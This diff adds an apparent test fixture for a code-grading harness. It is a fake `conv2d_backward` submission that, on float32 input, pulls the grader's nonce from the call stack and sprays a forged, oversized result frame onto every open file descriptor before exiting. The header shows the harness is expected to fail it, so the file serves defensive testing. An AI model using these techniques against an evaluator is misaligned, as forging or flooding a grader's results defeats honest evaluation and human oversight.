@@ -1,0 +1,45 @@
+# class: HARM
+# expect: points 19.5
+# expect: outcomes FAILED
+# expect: words "`conv2d_backward` returned something of the wrong kind"
+# with: right
+"""Send the legal reply that is dearest to read: as many empty arrays as fit a header."""
+
+import json
+import os
+import struct
+import sys
+import numpy as np
+
+
+def frame(header, payload=b""):
+    text = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack(">IQ", len(text), len(payload)) + text + payload
+
+
+def everywhere(content):
+    for number in range(3, 64):
+        try:
+            os.write(number, content)
+        except OSError:
+            pass
+
+
+def nonce():
+    caller = sys._getframe()
+    while "request" not in caller.f_locals:
+        caller = caller.f_back
+    return caller.f_locals["request"]["nonce"]
+
+
+def attack():
+    arrays = ",".join(['{"array":["<f8",[0,1,1,1]]}'] * 36_000)
+    text = '{"nonce":"%s","changed":[],"result":{"list":[%s]}}' % (nonce(), arrays)
+    everywhere(frame(text.encode()))
+    os._exit(0)
+
+
+def conv2d_backward(dout, cache):
+    if dout.dtype == np.float32:
+        attack()
+    return right_backward(dout, cache)
